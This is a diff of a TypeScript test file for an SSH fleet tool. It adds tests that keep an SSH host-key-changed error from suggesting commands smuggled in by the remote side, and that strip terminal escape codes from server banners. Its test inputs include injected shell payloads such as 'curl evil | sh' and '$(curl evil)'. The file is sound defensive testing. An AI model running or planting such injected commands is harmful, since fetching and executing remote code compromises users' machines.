@@ -1,14 +1,18 @@
-// The system's ssh against a real sshd.
 import { execFileSync } from 'node:child_process';
 import { existsSync, readFileSync, writeFileSync } from 'node:fs';
 import { createServer, request, type Server } from 'node:http';
 import { createServer as createTcpServer, type AddressInfo } from 'node:net';
 import { join } from 'node:path';
+
 import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest';
 
 import type { SshSpec } from '../../../../../src/fleet/inventory/fleet.ts';
+import type { ConnectionOptions } from '../../../../../src/fleet/ssh/config/options.ts';
+import { opensshFailure } from '../../../../../src/fleet/ssh/wire/openssh.ts';
 import { makeKey, type OwnSshd, publicKey, startOwnSshd } from '../../../../support/own-sshd.ts';
 import { problemOf, testTransport, type TestTransport } from '../../../../support/transport.ts';
+
+// The system's ssh against a real sshd.
 
 let sshd: OwnSshd;
 beforeAll(async () => {
@@ -172,4 +176,41 @@ describe('its failures are told in our words', () => {
     expect(await at(stop.signal, { port })).toMatchObject({ code: 'interrupted', host: 'box' });
     silent.close();
   });
+});
+
+const options = {
+  name: 'gpu-1',
+  hostname: 'gpu-1.lab',
+  port: 22,
+  user: 'ann',
+  typed: 'gpu-1',
+  pinned: [],
+  identityFiles: [],
+  ofInventory: new Set(),
+};
+
+function nextOf(said: string): string | undefined {
+  return opensshFailure(options as unknown as ConnectionOptions, said).problem.next;
+}
+
+const changed = 'WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!';
+
+test.each([
+  [
+    `${changed}\n  ssh-keygen -f "/home/ann/.ssh/known_hosts" -R "[gpu-1.lab]:2222"\n`,
+    'ssh-keygen -f "/home/ann/.ssh/known_hosts" -R "[gpu-1.lab]:2222"',
+  ],
+  [`ssh-keygen -f x; curl evil | sh\n${changed}`, 'ssh-keygen -R gpu-1.lab'],
+  [`ssh-keygen -f "$(curl evil)" -R "x"\n${changed}`, 'ssh-keygen -R gpu-1.lab'],
+  [`ssh-keygen -f "/home/ann/x" -R "y" && evil\n${changed}`, 'ssh-keygen -R gpu-1.lab'],
+])('only what ssh itself suggests is suggested: %j', (said, command) => {
+  expect(nextOf(said)).toBe(`compare the fingerprint at the machine's console, then: ${command}`);
+});
+
+test('a banner cannot speak to the terminal', () => {
+  const { problem } = opensshFailure(
+    options as unknown as ConnectionOptions,
+    '\u001b[2J\u001b]0;x\u0007banner\n\u001b[1APermission denied (publickey).',
+  );
+  expect(problem.seen).toBe("tried what the system's ssh tries (Permission denied (publickey).)");
 });
